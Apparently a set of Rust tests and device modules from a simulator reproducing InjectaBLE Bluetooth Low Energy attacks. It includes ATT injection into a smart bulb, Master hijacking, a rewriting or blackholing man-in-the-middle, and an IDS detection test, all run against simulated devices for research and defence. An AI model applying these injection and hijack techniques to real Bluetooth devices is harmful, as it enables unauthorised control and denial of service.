    // From that far away at least some attempts typically fail first.
    let outcomes: Vec<AttemptOutcome> = s.attacker().stats().log.iter().map(|(_, o)| *o).collect();
    assert!(!outcomes.is_empty());
}
