//! Scenario A end-to-end: injecting ATT requests into a live connection to
//! trigger device features (paper §VI-A).

mod common;

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use common::*;
use injectable::{AttemptOutcome, Mission, MissionState};
use simkit::Duration;

#[test]
fn injected_write_turns_the_bulb_off() {
    let mut rig = AttackRig::new(1, 36);
    rig.run_until_connected();
    {
        let bulb = rig.bulb.borrow();
        assert!(!bulb.app.on);
    }
    // Legitimate traffic first: the central turns the bulb on.
    rig.central
        .borrow_mut()
        .write(rig.control_handle, bulb_payloads::power_on());
    rig.sim.run_for(Duration::from_millis(500));
    assert!(rig.bulb.borrow().app.on, "precondition: bulb on");

    // Attack: inject a Write Request turning it off.
    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(20));

    let bulb = rig.bulb.borrow();
    let attacker = rig.attacker.borrow();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "attempts: {:?}",
        attacker.stats()
    );
    assert!(!bulb.app.on, "bulb turned off by the injection");
    assert!(attacker.stats().successes() >= 1);
    // The connection survived the injection: both sides still connected.
    assert!(rig.central.borrow().ll.is_connected(), "master unaware");
    assert!(bulb.ll.is_connected(), "slave still in the connection");
    assert_eq!(bulb.disconnections, 0);
}

#[test]
fn injected_read_captures_the_device_name() {
    let mut rig = AttackRig::new(2, 36);
    rig.run_until_connected();
    let name_handle = rig
        .bulb
        .borrow()
        .host
        .server()
        .handle_of(ble_host::Uuid::DEVICE_NAME)
        .expect("GAP device name");
    let att = AttPdu::ReadRequest {
        handle: name_handle,
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(20));

    let attacker = rig.attacker.borrow();
    assert_eq!(attacker.mission_state(), MissionState::Complete);
    // The Slave's response contained the ATT Read Response with the name —
    // the paper's confidentiality impact.
    let captured = attacker.captured();
    assert!(!captured.is_empty(), "no response captured");
    let found = captured
        .iter()
        .any(|payload| payload.windows(9).any(|w| w == b"SmartBulb"));
    assert!(found, "device name not found in {captured:?}");
}

#[test]
fn repeated_injections_all_land() {
    let mut rig = AttackRig::new(3, 75);
    // Pace the campaign so the legitimate Master keeps seeing responses on
    // the non-attacked events and the connection stays healthy throughout.
    rig.attacker.borrow_mut().set_inject_gap(2);
    rig.run_until_connected();
    rig.attacker.borrow_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: att_write_frame(rig.control_handle, bulb_payloads::colour(1, 2, 3)),
        wanted_successes: 5,
    });
    rig.sim.run_for(Duration::from_secs(60));
    let attacker = rig.attacker.borrow();
    assert_eq!(attacker.mission_state(), MissionState::Complete);
    assert_eq!(attacker.stats().successes(), 5);
    assert_eq!(rig.bulb.borrow().app.rgb, (1, 2, 3));
    // Median attempts stays low, as in the paper.
    let attempts = &attacker.stats().attempts_per_success;
    let mut sorted = attempts.clone();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    assert!(
        median <= 10,
        "median attempts {median}, history {attempts:?}"
    );
}

#[test]
fn injection_attempts_eventually_succeed_even_with_failures() {
    // Attacker far away (8 m) vs central at 2 m: more collisions lost, but
    // the attack still lands (paper experiment 3's headline result).
    let mut rig = AttackRig::with_positions(4, 36, 8.0, 2.0);
    rig.run_until_connected();
    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(120));
    let attacker = rig.attacker.borrow();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "stats {:?}",
        attacker.stats()
    );
    assert!(rig.bulb.borrow().app.on);
    // From that far away at least some attempts typically fail first.
    let outcomes: Vec<AttemptOutcome> = attacker.stats().log.iter().map(|(_, o)| *o).collect();
    assert!(!outcomes.is_empty());
}
