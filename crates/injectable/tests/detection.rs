//! The §VIII IDS countermeasure end-to-end: a passive monitor watching the
//! victim connection raises alerts when InjectaBLE attempts start, and
//! stays quiet on clean traffic.

mod common;

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use common::*;
use injectable::{DetectorConfig, InjectionDetector, Mission};
use simkit::Duration;

fn add_detector(rig: &mut AttackRig) -> std::rc::Rc<std::cell::RefCell<InjectionDetector>> {
    let slave = rig.bulb.borrow().ll.address();
    let detector = std::rc::Rc::new(std::cell::RefCell::new(
        InjectionDetector::new(DetectorConfig::default()).for_slave(slave),
    ));
    let id = rig.sim.add_node(
        ble_phy::NodeConfig::new("ids", ble_phy::Position::new(1.0, 1.0)),
        detector.clone(),
    );
    {
        let detector = detector.clone();
        rig.sim.with_ctx(id, |ctx| detector.borrow_mut().start(ctx));
    }
    detector
}

#[test]
fn clean_traffic_raises_no_alerts() {
    let mut rig = AttackRig::new(70, 36);
    let detector = add_detector(&mut rig);
    rig.run_until_connected();
    // Plenty of legitimate traffic, including real writes.
    for i in 0..10u8 {
        rig.central
            .borrow_mut()
            .write(rig.control_handle, bulb_payloads::brightness(i * 10));
        rig.sim.run_for(Duration::from_secs(1));
    }
    let d = detector.borrow();
    assert!(d.is_monitoring(), "monitor followed the connection");
    assert!(
        d.events_observed() > 100,
        "observed {}",
        d.events_observed()
    );
    assert!(
        d.alerts().is_empty(),
        "false positives on clean traffic: {:?}",
        d.alerts()
    );
}

#[test]
fn injection_campaign_is_detected() {
    let mut rig = AttackRig::new(71, 36);
    let detector = add_detector(&mut rig);
    rig.run_until_connected();
    rig.sim.run_for(Duration::from_secs(2)); // detector warm-up

    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    // A sustained campaign (several successes) gives the IDS several
    // injected frames to witness.
    rig.attacker.borrow_mut().set_inject_gap(2);
    rig.attacker.borrow_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: att_write_frame(rig.control_handle, bulb_payloads::power_on()),
        wanted_successes: 5,
    });
    let _ = att;
    rig.sim.run_for(Duration::from_secs(30));

    let d = detector.borrow();
    let attempts = rig.attacker.borrow().stats().attempts_total;
    assert!(attempts >= 5, "attack ran ({attempts} attempts)");
    assert!(
        !d.alerts().is_empty(),
        "IDS must flag the campaign ({attempts} attempts, {} events observed)",
        d.events_observed()
    );
    // Most alerts should be the early-anchor signature — the injected frame
    // arriving a whole window-widening before the legitimate anchor.
    let early = d
        .alerts()
        .iter()
        .filter(|a| matches!(a, injectable::Alert::EarlyAnchor { .. }))
        .count();
    assert!(early > 0, "early-anchor alerts expected: {:?}", d.alerts());
}
