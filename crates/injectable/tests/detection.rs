//! The §VIII IDS countermeasure end-to-end: a passive monitor watching the
//! victim connection raises alerts when InjectaBLE attempts start, and
//! stays quiet on clean traffic.

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use ble_phy::NodeId;
use ble_scenario::{att_write_frame, Scenario, ScenarioBuilder};
use injectable::{DetectorConfig, InjectionDetector, Mission};
use simkit::Duration;

fn rig_with_detector(seed: u64) -> (Scenario, NodeId) {
    let mut s = ScenarioBuilder::attack_rig(seed).hop_interval(36).build();
    let detector = InjectionDetector::new(DetectorConfig::default()).for_slave(s.victim_addr);
    let id = s.world.add_node(
        ble_phy::NodeConfig::new("ids", ble_phy::Position::new(1.0, 1.0)),
        detector,
    );
    s.world.start(id);
    (s, id)
}

fn detector(s: &Scenario, id: NodeId) -> &InjectionDetector {
    s.world.node::<InjectionDetector>(id).expect("ids node")
}

#[test]
fn clean_traffic_raises_no_alerts() {
    let (mut s, id) = rig_with_detector(70);
    s.run_until_connected();
    let control = s.victim_control_handle();
    // Plenty of legitimate traffic, including real writes.
    for i in 0..10u8 {
        s.central_mut()
            .write(control, bulb_payloads::brightness(i * 10));
        s.run_for(Duration::from_secs(1));
    }
    let d = detector(&s, id);
    assert!(d.is_monitoring(), "monitor followed the connection");
    assert!(
        d.events_observed() > 100,
        "observed {}",
        d.events_observed()
    );
    assert!(
        d.alerts().is_empty(),
        "false positives on clean traffic: {:?}",
        d.alerts()
    );
}

#[test]
fn injection_campaign_is_detected() {
    let (mut s, id) = rig_with_detector(71);
    s.run_until_connected();
    s.run_for(Duration::from_secs(2)); // detector warm-up
    let control = s.victim_control_handle();

    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    // A sustained campaign (several successes) gives the IDS several
    // injected frames to witness.
    s.attacker_mut().set_inject_gap(2);
    s.attacker_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: att_write_frame(control, bulb_payloads::power_on()),
        wanted_successes: 5,
    });
    let _ = att;
    s.run_for(Duration::from_secs(30));

    let d = detector(&s, id);
    let attempts = s.attacker().stats().attempts_total;
    assert!(attempts >= 5, "attack ran ({attempts} attempts)");
    assert!(
        !d.alerts().is_empty(),
        "IDS must flag the campaign ({attempts} attempts, {} events observed)",
        d.events_observed()
    );
    // Most alerts should be the early-anchor signature — the injected frame
    // arriving a whole window-widening before the legitimate anchor.
    let early = d
        .alerts()
        .iter()
        .filter(|a| matches!(a, injectable::Alert::EarlyAnchor { .. }))
        .count();
    assert!(early > 0, "early-anchor alerts expected: {:?}", d.alerts());
}
