//! Scenarios C and D end-to-end: hijacking the Master via a forged
//! `LL_CONNECTION_UPDATE_IND`, and the full Man-in-the-Middle
//! (paper §VI-C/D).

mod common;

use ble_devices::bulb_payloads;
use ble_host::{GattServer, HostStack};
use ble_link::{AddressType, DeviceAddress, Role, UpdateRequest};
use common::*;
use injectable::{new_handoff, Mission, MissionState, MitmSlaveHalf, RewriteRule};
use simkit::{Duration, SimRng};

fn attacker_master_host(seed: u64) -> Box<HostStack> {
    Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        GattServer::new(),
        SimRng::seed_from(seed),
    ))
}

fn forged_update() -> UpdateRequest {
    UpdateRequest {
        win_size: 2,
        win_offset: 3,
        interval: 60,
        latency: 0,
        timeout: 300,
    }
}

#[test]
fn master_hijack_steals_the_slave_and_drives_its_features() {
    let mut rig = AttackRig::new(20, 36);
    rig.central.borrow_mut().auto_reconnect = false;
    rig.run_until_connected();
    assert!(!rig.bulb.borrow().app.on);

    rig.attacker.borrow_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(1),
        on_takeover_writes: vec![(rig.control_handle, bulb_payloads::power_on())],
        mitm: None,
    });
    rig.sim.run_for(Duration::from_secs(30));

    {
        let attacker = rig.attacker.borrow();
        assert_eq!(
            attacker.mission_state(),
            MissionState::TakenOver,
            "stats: {:?}",
            attacker.stats()
        );
        let ll = attacker.takeover_ll().expect("takeover LL");
        assert!(
            ll.is_connected(),
            "attacker-as-master connected to the slave"
        );
        assert_eq!(ll.connection_info().unwrap().role, Role::Master);
        // The hijacked connection runs on the forged parameters.
        assert_eq!(ll.connection_info().unwrap().params.hop_interval, 60);
    }
    // The attacker drove the slave's feature, as in scenario A but from a
    // fully hijacked Master role.
    assert!(rig.bulb.borrow().app.on, "attacker's write applied");
    // The slave never disconnected: the hijack is seamless on its side.
    assert_eq!(rig.bulb.borrow().disconnections, 0);
    assert!(rig.bulb.borrow().ll.is_connected());

    // The legitimate master, meanwhile, starves and hits its supervision
    // timeout ("it leaves the connection due to timeout", §VI-C).
    let central = rig.central.borrow();
    assert!(!central.ll.is_connected(), "legitimate master timed out");
    assert_eq!(
        central.last_disconnect_reason,
        Some(ble_link::ERR_CONNECTION_TIMEOUT)
    );
}

#[test]
fn mitm_intercepts_and_rewrites_traffic_on_the_fly() {
    let mut rig = AttackRig::new(21, 36);
    rig.central.borrow_mut().auto_reconnect = false;
    rig.run_until_connected();

    // Scenario D: the slave half mirrors the bulb's GATT profile so the
    // legitimate master's writes land on matching handles.
    let handoff = new_handoff();
    let mirror = {
        let mut host = HostStack::new(
            DeviceAddress::new([0xEE; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(5),
        );
        use ble_host::gatt::props;
        use ble_host::Uuid;
        host.server_mut()
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"SmartBulb".to_vec())
            .finish();
        host.server_mut()
            .service(ble_devices::BULB_SERVICE_UUID)
            .characteristic(
                ble_devices::BULB_CONTROL_UUID,
                props::READ | props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![0],
            )
            .finish();
        host
    };
    // Rewrite rule: red becomes green (the paper rewrote RGB values).
    let rewrite = RewriteRule {
        handle: Some(rig.control_handle),
        find: bulb_payloads::colour(255, 0, 0),
        replace: bulb_payloads::colour(0, 255, 0),
    };
    let slave_half = std::rc::Rc::new(std::cell::RefCell::new(MitmSlaveHalf::new(
        mirror,
        handoff.clone(),
        vec![rewrite],
    )));
    // Co-located with the attacker.
    let pos = rig.sim.node_position(rig.attacker_id);
    let half_id = rig.sim.add_node(
        ble_phy::NodeConfig::new("mitm-slave-half", pos).with_tx_power(8.0),
        slave_half.clone(),
    );
    {
        let slave_half = slave_half.clone();
        rig.sim
            .with_ctx(half_id, |ctx| slave_half.borrow_mut().start(ctx));
    }

    rig.attacker.borrow_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(2),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    rig.sim.run_for(Duration::from_secs(30));
    assert_eq!(
        rig.attacker.borrow().mission_state(),
        MissionState::TakenOver,
        "stats: {:?}",
        rig.attacker.borrow().stats()
    );
    // Both halves are connected: full MITM established mid-connection.
    assert!(rig.attacker.borrow().takeover_ll().unwrap().is_connected());
    assert!(
        slave_half.borrow().ll.is_connected(),
        "slave half holds the master"
    );
    assert!(
        rig.central.borrow().ll.is_connected(),
        "legit master unaware"
    );
    assert!(rig.bulb.borrow().ll.is_connected(), "slave unaware");

    // The legitimate master sets the bulb red; the MITM rewrites to green.
    rig.central
        .borrow_mut()
        .write(rig.control_handle, bulb_payloads::colour(255, 0, 0));
    rig.sim.run_for(Duration::from_secs(5));

    let bulb = rig.bulb.borrow();
    assert_eq!(bulb.app.rgb, (0, 255, 0), "colour rewritten on the fly");
    let shared = handoff.borrow();
    assert!(
        shared
            .intercepted
            .iter()
            .any(|(h, v)| *h == rig.control_handle && v == &bulb_payloads::colour(255, 0, 0)),
        "original write intercepted: {:?}",
        shared.intercepted
    );
}

#[test]
fn mitm_blackhole_denies_service() {
    // §VIII: "initiating a Man-in-the-Middle and not forwarding the
    // legitimate traffic to perform a denial of service".
    let mut rig = AttackRig::new(22, 36);
    rig.central.borrow_mut().auto_reconnect = false;
    rig.run_until_connected();
    let handoff = new_handoff();
    handoff.borrow_mut().forward = false;
    let mirror = {
        let mut host = HostStack::new(
            DeviceAddress::new([0xEE; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(5),
        );
        use ble_host::gatt::props;
        use ble_host::Uuid;
        // Mirror the bulb's full attribute layout so handles align.
        host.server_mut()
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"SmartBulb".to_vec())
            .finish();
        host.server_mut()
            .service(ble_devices::BULB_SERVICE_UUID)
            .characteristic(
                ble_devices::BULB_CONTROL_UUID,
                props::READ | props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![0],
            )
            .finish();
        host
    };
    let slave_half = std::rc::Rc::new(std::cell::RefCell::new(MitmSlaveHalf::new(
        mirror,
        handoff.clone(),
        vec![],
    )));
    let pos = rig.sim.node_position(rig.attacker_id);
    let half_id = rig.sim.add_node(
        ble_phy::NodeConfig::new("mitm-slave-half", pos).with_tx_power(8.0),
        slave_half.clone(),
    );
    {
        let slave_half = slave_half.clone();
        rig.sim
            .with_ctx(half_id, |ctx| slave_half.borrow_mut().start(ctx));
    }
    rig.attacker.borrow_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(3),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    rig.sim.run_for(Duration::from_secs(30));
    assert_eq!(
        rig.attacker.borrow().mission_state(),
        MissionState::TakenOver
    );
    rig.central
        .borrow_mut()
        .write(rig.control_handle, bulb_payloads::power_on());
    rig.sim.run_for(Duration::from_secs(5));
    // Intercepted but never delivered.
    assert!(!handoff.borrow().intercepted.is_empty());
    assert!(!rig.bulb.borrow().app.on, "write blackholed");
}
