//! Scenarios C and D end-to-end: hijacking the Master via a forged
//! `LL_CONNECTION_UPDATE_IND`, and the full Man-in-the-Middle
//! (paper §VI-C/D).

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::{GattServer, HostStack};
use ble_link::{AddressType, DeviceAddress, Role, UpdateRequest};
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{new_handoff, Mission, MissionState, MitmSlaveHalf, RewriteRule};
use simkit::{Duration, SimRng};

fn rig(seed: u64) -> Scenario {
    let mut s = ScenarioBuilder::attack_rig(seed).hop_interval(36).build();
    s.central_mut().auto_reconnect = false;
    s
}

fn attacker_master_host(seed: u64) -> Box<HostStack> {
    Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        GattServer::new(),
        SimRng::seed_from(seed),
    ))
}

fn forged_update() -> UpdateRequest {
    UpdateRequest {
        win_size: 2,
        win_offset: 3,
        interval: 60,
        latency: 0,
        timeout: 300,
    }
}

/// The slave half's GATT mirror of the bulb's attribute layout, so the
/// legitimate master's writes land on matching handles.
fn bulb_mirror() -> HostStack {
    use ble_host::gatt::props;
    use ble_host::Uuid;
    let mut host = HostStack::new(
        DeviceAddress::new([0xEE; 6], AddressType::Random),
        GattServer::new(),
        SimRng::seed_from(5),
    );
    host.server_mut()
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"SmartBulb".to_vec())
        .finish();
    host.server_mut()
        .service(ble_devices::BULB_SERVICE_UUID)
        .characteristic(
            ble_devices::BULB_CONTROL_UUID,
            props::READ | props::WRITE | props::WRITE_WITHOUT_RESPONSE,
            vec![0],
        )
        .finish();
    host
}

/// Adds the MITM slave half to the world, co-located with the attacker.
fn add_slave_half(s: &mut Scenario, half: MitmSlaveHalf) -> ble_phy::NodeId {
    let id = s.world.add_node(
        ble_phy::NodeConfig::new("mitm-slave-half", s.attacker_pos).with_tx_power(8.0),
        half,
    );
    s.world.start(id);
    id
}

#[test]
fn master_hijack_steals_the_slave_and_drives_its_features() {
    let mut s = rig(20);
    s.run_until_connected();
    assert!(!s.victim::<Lightbulb>().app.on);
    let control = s.victim_control_handle();

    s.attacker_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(1),
        on_takeover_writes: vec![(control, bulb_payloads::power_on())],
        mitm: None,
    });
    s.run_for(Duration::from_secs(30));

    {
        let attacker = s.attacker();
        assert_eq!(
            attacker.mission_state(),
            MissionState::TakenOver,
            "stats: {:?}",
            attacker.stats()
        );
        let ll = attacker.takeover_ll().expect("takeover LL");
        assert!(
            ll.is_connected(),
            "attacker-as-master connected to the slave"
        );
        assert_eq!(ll.connection_info().unwrap().role, Role::Master);
        // The hijacked connection runs on the forged parameters.
        assert_eq!(ll.connection_info().unwrap().params.hop_interval, 60);
    }
    // The attacker drove the slave's feature, as in scenario A but from a
    // fully hijacked Master role.
    assert!(s.victim::<Lightbulb>().app.on, "attacker's write applied");
    // The slave never disconnected: the hijack is seamless on its side.
    assert_eq!(s.victim::<Lightbulb>().disconnections, 0);
    assert!(s.victim_connected());

    // The legitimate master, meanwhile, starves and hits its supervision
    // timeout ("it leaves the connection due to timeout", §VI-C).
    let central = s.central();
    assert!(!central.ll.is_connected(), "legitimate master timed out");
    assert_eq!(
        central.last_disconnect_reason,
        Some(ble_link::ERR_CONNECTION_TIMEOUT)
    );
}

#[test]
fn mitm_intercepts_and_rewrites_traffic_on_the_fly() {
    let mut s = rig(21);
    s.run_until_connected();
    let control = s.victim_control_handle();

    // Scenario D: the slave half mirrors the bulb's GATT profile.
    let handoff = new_handoff();
    // Rewrite rule: red becomes green (the paper rewrote RGB values).
    let rewrite = RewriteRule {
        handle: Some(control),
        find: bulb_payloads::colour(255, 0, 0),
        replace: bulb_payloads::colour(0, 255, 0),
    };
    let half_id = add_slave_half(
        &mut s,
        MitmSlaveHalf::new(bulb_mirror(), handoff.clone(), vec![rewrite]),
    );

    s.attacker_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(2),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    s.run_for(Duration::from_secs(30));
    assert_eq!(
        s.attacker().mission_state(),
        MissionState::TakenOver,
        "stats: {:?}",
        s.attacker().stats()
    );
    // Both halves are connected: full MITM established mid-connection.
    assert!(s.attacker().takeover_ll().unwrap().is_connected());
    assert!(
        s.world
            .node::<MitmSlaveHalf>(half_id)
            .expect("mitm half")
            .ll
            .is_connected(),
        "slave half holds the master"
    );
    assert!(s.central().ll.is_connected(), "legit master unaware");
    assert!(s.victim_connected(), "slave unaware");

    // The legitimate master sets the bulb red; the MITM rewrites to green.
    s.central_mut()
        .write(control, bulb_payloads::colour(255, 0, 0));
    s.run_for(Duration::from_secs(5));

    let bulb = s.victim::<Lightbulb>();
    assert_eq!(bulb.app.rgb, (0, 255, 0), "colour rewritten on the fly");
    let shared = handoff.lock();
    assert!(
        shared
            .intercepted
            .iter()
            .any(|(h, v)| *h == control && v == &bulb_payloads::colour(255, 0, 0)),
        "original write intercepted: {:?}",
        shared.intercepted
    );
}

#[test]
fn mitm_blackhole_denies_service() {
    // §VIII: "initiating a Man-in-the-Middle and not forwarding the
    // legitimate traffic to perform a denial of service".
    let mut s = rig(22);
    s.run_until_connected();
    let control = s.victim_control_handle();
    let handoff = new_handoff();
    handoff.lock().forward = false;
    add_slave_half(
        &mut s,
        MitmSlaveHalf::new(bulb_mirror(), handoff.clone(), vec![]),
    );
    s.attacker_mut().arm(Mission::HijackMaster {
        update: forged_update(),
        instant_delta: 6,
        host: attacker_master_host(3),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    s.run_for(Duration::from_secs(30));
    assert_eq!(s.attacker().mission_state(), MissionState::TakenOver);
    s.central_mut().write(control, bulb_payloads::power_on());
    s.run_for(Duration::from_secs(5));
    // Intercepted but never delivered.
    assert!(!handoff.lock().intercepted.is_empty());
    assert!(!s.victim::<Lightbulb>().app.on, "write blackholed");
}
