//! The keyfob — paper scenario A: "making the keyfob ring".

use ble_host::{gatt::props, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, SleepClockAccuracy};
use simkit::SimRng;

use crate::bulb::adv_data_with_name;
use crate::peripheral::{host_with_gap, Peripheral, PeripheralApp};

/// The keyfob application state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KeyfobApp {
    /// Current alert level (0 = silent, 1 = mild, 2 = high).
    pub alert_level: u8,
    /// How many times the fob has been made to ring (level > 0 writes).
    pub rings: usize,
    alert_handle: u16,
}

impl PeripheralApp for KeyfobApp {
    fn handle_event(&mut self, _host: &mut HostStack, event: &HostEvent) {
        let HostEvent::Written { handle, value, .. } = event else {
            return;
        };
        if *handle != self.alert_handle {
            return;
        }
        self.alert_level = value.first().copied().unwrap_or(0).min(2);
        if self.alert_level > 0 {
            self.rings += 1;
        }
    }
}

/// A simulated keyfob exposing the Immediate Alert profile.
pub type Keyfob = Peripheral<KeyfobApp>;

impl Keyfob {
    /// Creates a keyfob.
    ///
    /// # Example
    ///
    /// ```
    /// use ble_devices::Keyfob;
    /// use simkit::SimRng;
    /// let fob = Keyfob::new(0xF0, SimRng::seed_from(1));
    /// assert_eq!(fob.app.rings, 0);
    /// ```
    pub fn new(addr_seed: u8, rng: SimRng) -> Keyfob {
        let address = DeviceAddress::new([addr_seed; 6], AddressType::Public);
        let (mut host, _) = host_with_gap(address, "KeyFob", rng);
        let alert_handle = host
            .server_mut()
            .service(Uuid::IMMEDIATE_ALERT_SERVICE)
            .characteristic(
                Uuid::ALERT_LEVEL,
                props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![0],
            )
            .finish();
        let app = KeyfobApp {
            alert_level: 0,
            rings: 0,
            alert_handle,
        };
        Peripheral::assemble(
            address,
            SleepClockAccuracy::Ppm50,
            host,
            app,
            adv_data_with_name("KeyFob"),
        )
    }

    /// Handle of the Alert Level characteristic.
    pub fn alert_handle(&self) -> u16 {
        self.app.alert_handle
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ring_counting_and_clamping() {
        let mut fob = Keyfob::new(0xF0, SimRng::seed_from(1));
        let h = fob.alert_handle();
        let (mut host, _) = host_with_gap(
            DeviceAddress::new([1; 6], AddressType::Public),
            "x",
            SimRng::seed_from(2),
        );
        for (value, expected_level) in [(vec![2u8], 2u8), (vec![0], 0), (vec![9], 2)] {
            fob.app.handle_event(
                &mut host,
                &HostEvent::Written {
                    handle: h,
                    value: value.into(),
                    acknowledged: false,
                },
            );
            assert_eq!(fob.app.alert_level, expected_level);
        }
        assert_eq!(fob.app.rings, 2);
    }
}
