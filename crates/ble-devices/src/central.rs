//! A smartphone-like Central.
//!
//! Initiates connections to a target peripheral, keeps them alive, can pair
//! and encrypt, and re-establishes the connection after a loss — the role
//! the paper fills with a Mirage-driven HCI Central (experiments 1–2) and a
//! real smartphone (experiment 3).

use std::collections::VecDeque;

use ble_host::{GattServer, HostEvent, HostStack, SecurityAction};
use ble_link::{ConnectionParams, DeviceAddress, LinkLayer, SleepClockAccuracy, UpdateRequest};
use ble_phy::{NodeCtx, RadioEvent, RadioListener, TimerKey};
use simkit::{Duration, SimRng};

use crate::peripheral::APP_TIMER_BASE;

const RECONNECT_TIMER: u64 = APP_TIMER_BASE;

/// A Central device: connection initiator and application driver.
pub struct Central {
    /// The Link Layer.
    pub ll: LinkLayer,
    /// The host stack (ATT client + GATT server with a GAP name).
    pub host: HostStack,
    target: DeviceAddress,
    params: ConnectionParams,
    /// Reconnect automatically after disconnection.
    pub auto_reconnect: bool,
    reconnect_delay: Duration,
    /// Number of connections successfully initiated.
    pub connections: usize,
    /// Number of disconnections observed.
    pub disconnections: usize,
    /// Reason of the last disconnection.
    pub last_disconnect_reason: Option<u8>,
    /// Application events drained from the host, for inspection by tests
    /// and experiment harnesses.
    pub event_log: VecDeque<HostEvent>,
    /// Writes to enqueue on (re)connection: (handle, value, acknowledged).
    pub on_connect_writes: Vec<(u16, Vec<u8>, bool)>,
    /// Pair (and then encrypt) automatically on connection.
    pub pair_on_connect: bool,
    rng: SimRng,
}

impl Central {
    /// Creates a Central that will connect to `target` using `params`.
    ///
    /// # Example
    ///
    /// ```
    /// use ble_devices::Central;
    /// use ble_link::{AddressType, ConnectionParams, DeviceAddress};
    /// use simkit::SimRng;
    /// let mut rng = SimRng::seed_from(1);
    /// let params = ConnectionParams::typical(&mut rng, 36);
    /// let central = Central::new(0xA0, DeviceAddress::new([0xB1; 6], AddressType::Public), params, rng);
    /// assert_eq!(central.connections, 0);
    /// ```
    pub fn new(
        addr_seed: u8,
        target: DeviceAddress,
        params: ConnectionParams,
        mut rng: SimRng,
    ) -> Central {
        let address = DeviceAddress::new([addr_seed; 6], ble_link::AddressType::Public);
        let host_rng = SimRng::seed_from(rng.below(u64::MAX - 1));
        let host = HostStack::new(address, GattServer::new(), host_rng);
        Central {
            ll: LinkLayer::new(address, SleepClockAccuracy::Ppm50),
            host,
            target,
            params,
            auto_reconnect: true,
            reconnect_delay: Duration::from_millis(50),
            connections: 0,
            disconnections: 0,
            last_disconnect_reason: None,
            event_log: VecDeque::new(),
            on_connect_writes: Vec::new(),
            pair_on_connect: false,
            rng,
        }
    }

    /// Starts scanning/initiating (call once from `Simulation::with_ctx`).
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.ll.start_initiating(ctx, self.target, self.params);
    }

    /// Replaces the connection parameters used for *future* connections.
    pub fn set_params(&mut self, params: ConnectionParams) {
        self.params = params;
    }

    /// Requests Channel Selection Algorithm #2 (BLE 5) for future
    /// connections.
    pub fn set_prefer_csa2(&mut self, prefer: bool) {
        self.ll.set_prefer_csa2(prefer);
    }

    /// The parameters used for connections.
    pub fn params(&self) -> ConnectionParams {
        self.params
    }

    /// Queues a write to be sent immediately (if connected).
    pub fn write(&mut self, handle: u16, value: Vec<u8>) {
        self.host.write(handle, value);
    }

    /// Requests a connection-parameter update on the live connection.
    pub fn update_connection(&mut self, update: UpdateRequest, instant_delta: u16) {
        self.ll.request_connection_update(update, instant_delta);
    }

    fn pump(&mut self, ctx: &mut NodeCtx<'_>) {
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if self.ll.is_connected() {
                        self.ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
        while let Some(event) = self.host.poll_event() {
            match &event {
                HostEvent::Connected { .. } => {
                    self.connections += 1;
                    let writes = self.on_connect_writes.clone();
                    for (handle, value, acknowledged) in writes {
                        if acknowledged {
                            self.host.write(handle, value);
                        } else {
                            self.host.write_command(handle, value);
                        }
                    }
                    if self.pair_on_connect {
                        if self.host.bonded_key().is_some() {
                            self.host.encrypt_with_bonded_key();
                        } else {
                            self.host.start_pairing();
                        }
                    }
                }
                HostEvent::Disconnected { reason } => {
                    self.disconnections += 1;
